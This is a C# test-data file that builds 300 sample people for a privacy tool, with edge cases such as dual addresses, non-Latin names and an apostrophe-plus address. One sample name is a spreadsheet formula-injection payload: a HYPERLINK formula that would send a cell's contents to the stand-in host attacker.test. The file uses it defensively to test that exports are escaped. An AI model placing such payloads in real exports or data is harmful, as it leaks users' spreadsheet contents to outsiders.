using Bogus;

namespace PrivacyFunctions.LocalHost.Sample;

/// <summary>
/// The 300 people of the sample company, always the same. The constants are the addresses of the awkward ones, for
/// tests and for trying things out.
/// </summary>
internal static class SamplePeople
{
    public const int Count = 300;
    public const int AccountCount = 40;

    /// <summary>The same person under two addresses; the directory knows both, other systems know one or the other.</summary>
    public const string TwoAddresses = "maria.lindqvist@example.com";
    public const string TwoAddressesSecond = "m.lindqvist@example.org";

    /// <summary>A name in another script.</summary>
    public const string OtherScript = "eleni.papadopoulou@example.org";

    /// <summary>The company holds nothing about this person anywhere.</summary>
    public const string InNothing = "nora.nobody@example.net";

    /// <summary>An address with an apostrophe and a plus sign, which break careless queries and links.</summary>
    public const string ApostropheAndPlus = "siobhan.o'neil+privacy@example.com";

    /// <summary>Has <see cref="VeryActiveEntries"/> entries in the usage log.</summary>
    public const string VeryActive = "viktor.vielnutzer@example.com";
    public const int VeryActiveEntries = 5000;

    /// <summary>Occurs as a newsletter subscriber only, without an account.</summary>
    public const string NewsletterOnly = "nils.nyhetsbrev@example.net";

    /// <summary>Occurs only in what customers keep in the company's products: no answer of ours may find it.</summary>
    public const string ServiceDataOnly = "clara.customer@example.org";

    /// <summary>A name that a spreadsheet would run as a formula.</summary>
    public const string FormulaName = "hyper.link@formula.test";

    private const int Visitors = 70;
    private const int CustomersContacts = 70;

    private static readonly SamplePerson[] Awkward =
    [
        new("p-0001", "Maria Lindqvist", TwoAddresses, TwoAddressesSecond, "a-01", SamplePart.AccountUser),
        new("p-0002", "Ελένη Παπαδοπούλου", OtherScript, null, "a-02", SamplePart.AccountUser),
        new("p-0003", "Siobhán O'Neil", ApostropheAndPlus, null, "a-03", SamplePart.AccountUser),
        new("p-0004", "Viktor Vielnutzer", VeryActive, null, "a-04", SamplePart.AccountUser),
        new("p-0005", "=HYPERLINK(\"http://attacker.test/?leak=\"&A1,\"Click\")", FormulaName, null, "a-05",
            SamplePart.AccountUser),
        new("p-0006", "Nora Nobody", InNothing, null, null, SamplePart.Nothing),
        new("p-0007", "Nils Nyhetsbrev", NewsletterOnly, null, null, SamplePart.NewsletterReader),
        new("p-0008", "Clara Customer", ServiceDataOnly, null, null, SamplePart.CustomersContact),
    ];

    private static readonly Lazy<IReadOnlyList<SamplePerson>> People = new(Generate);

    /// <summary>Everybody, the awkward ones first.</summary>
    public static IReadOnlyList<SamplePerson> All => People.Value;

    /// <summary>The account users who are awkward occur in every data set, so that each set meets each of them.</summary>
    public static bool IsAwkward(SamplePerson person) => Awkward.Contains(person);

    public static SamplePerson ByAddress(string address) =>
        All.Single(person => person.Address == address || person.SecondAddress == address);

    private static List<SamplePerson> Generate()
    {
        var faker = new Faker { Random = new Randomizer(300) };
        var people = Awkward.ToList();
        var names = people.Select(person => person.Name).ToHashSet();
        var addresses = people.Select(person => person.Address).ToHashSet();
        while (people.Count < Count)
        {
            var (first, last) = (faker.Name.FirstName(), faker.Name.LastName());
            var domain = faker.PickRandom("example.com", "example.org", "example.net", "mail.test");
            var address = $"{first}.{last}@{domain}".Replace("'", "", StringComparison.Ordinal).ToLowerInvariant();
            if (names.Add($"{first} {last}") && addresses.Add(address))
                people.Add(Next(people.Count, $"{first} {last}", address));
        }

        return people;
    }

    private static SamplePerson Next(int index, string name, string address)
    {
        var part = index >= Count - CustomersContacts ? SamplePart.CustomersContact
            : index >= Count - CustomersContacts - Visitors ? SamplePart.Visitor
            : SamplePart.AccountUser;
        var account = part is SamplePart.AccountUser ? $"a-{(index % AccountCount) + 1:D2}" : null;
        return new SamplePerson($"p-{index + 1:D4}", name, address, SecondAddress: null, account, part);
    }
}
